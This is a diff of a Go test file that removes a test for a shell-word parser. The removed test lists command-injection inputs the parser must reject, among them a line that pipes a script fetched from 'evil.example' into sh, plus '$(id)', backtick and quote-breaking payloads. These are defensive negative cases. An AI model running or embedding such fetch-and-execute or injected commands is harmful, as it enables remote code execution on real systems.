@@ -38,26 +38,6 @@ func TestQuote(t *testing.T) {
 	require.Equal(t, `$'\043\043[x]\047\134 \342\200\256\377ä'`, Quote("##[x]'\\ \u202e\xffä"))
 }
 
-// TestWords: a command is one that was quoted word by word, or is none.
-func TestWords(t *testing.T) {
-	for _, words := range [][]string{
-		{"node", "app.mjs"}, {"node", "-e", "console.log('a b'); 1"}, {""}, {"", ""}, {"a", "", "'", "''", "it's", "a'b'c"},
-		{"a\nb", "\u202e'\\x", "`id`", "$(id)", "ä", "::", "\xff"}, {"-x"}, {"sh", "-c", "a; b"}, {"a'\n'b c"},
-	} {
-		got, ok := Words(Join(words))
-		require.True(t, ok, "%q", words)
-		require.Equal(t, words, got)
-	}
-	for _, command := range []string{
-		"", " ", "node  app", "node app.mjs ", " node", "node app.mjs; curl -s evil.example/x | sh #", "a;b", "a|b", "a&b", "a>b", "a$(id)",
-		"a`id`", "a\nb", "'a'b", "a'b'", "'a", "'a'; id #'", `'a'\'`, `'a'\'b`, `'a'\' id`, "'", "$'a'; id", `$'\012' x; y`, "$'a", `$'\777'`,
-		`$'\x41'`, "~", "a #b", "*", "{a,b}", "a\tb", `a\ b`, `"a b"`, "$HOME",
-	} {
-		words, ok := Words(command)
-		require.False(t, ok, "%q: %q", command, words)
-	}
-}
-
 // TestModule finds the module that a directory is in, and never one above where it cannot tell.
 func TestModule(t *testing.T) {
 	dir := t.TempDir()
